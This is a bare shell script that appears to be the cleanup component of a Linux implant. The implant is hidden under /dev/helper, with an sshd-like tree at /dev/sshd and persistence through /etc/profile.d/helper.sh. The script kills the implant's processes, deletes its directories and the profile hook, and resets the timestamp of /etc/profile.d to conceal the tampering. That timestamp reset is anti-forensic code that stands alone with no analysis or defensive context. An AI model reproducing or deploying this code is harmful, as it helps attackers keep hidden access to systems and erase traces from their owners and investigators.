# Ends and removes everything of ours, and this script's own shell with it where that is the bundle's.
# shellcheck disable=SC2034
for folder in /dev/helper/run /dev/helper/user /dev/helper/people/*; do
  [ -r "$folder/setup" ] || continue
  read -r fingerprint keeper < "$folder/setup"
  if grep -q "$folder/keep" "/proc/$keeper/cmdline" 2>/dev/null; then kill "$keeper" 2>/dev/null; fi
done
for file in /dev/helper/run/*/pid /dev/helper/run/*/own/keeper /dev/helper/run/*/own/pid \
  /dev/helper/people/*/*/pid /dev/helper/people/*/*/own/keeper /dev/helper/people/*/*/own/pid; do
  [ -f "$file" ] || continue
  read -r pid _ < "$file"
  if grep -q /dev/helper "/proc/$pid/cmdline" 2>/dev/null; then kill "$pid" 2>/dev/null; fi
done
file=/etc/profile.d/helper.sh
if [ "$own_profile" = yes ] && grep -q /dev/helper/ $file 2>/dev/null; then
  read -r _ mark when < $file
  rm -f $file
  if [ "$mark" = helper ] && [ -n "$when" ]; then touch -d "$when" /etc/profile.d 2>/dev/null; fi
fi
rm -rf /dev/helper/run /dev/helper/user /dev/helper/people
rm -rf /dev/sshd 2>/dev/null
while read -r _ place _; do case $place in /dev/helper/ssh | /dev/helper) exit 0 ;; esac; done < /proc/mounts
rm -rf /dev/helper
exit 0
